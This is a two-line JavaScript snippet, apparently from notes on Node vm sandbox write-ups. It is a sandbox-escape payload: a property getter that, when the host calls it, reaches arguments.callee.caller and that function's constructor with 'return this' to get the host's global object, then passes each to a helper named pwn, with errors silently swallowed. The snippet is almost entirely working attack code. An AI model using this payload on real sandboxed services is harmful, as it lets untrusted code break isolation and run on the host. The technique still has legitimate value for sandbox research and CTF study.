// Node vm write-ups: arguments.callee.caller from a function the host calls
log({ get x() { try { pwn(arguments.callee.caller); pwn(arguments.callee.caller.constructor('return this')()) } catch (e) {} return 1 } });
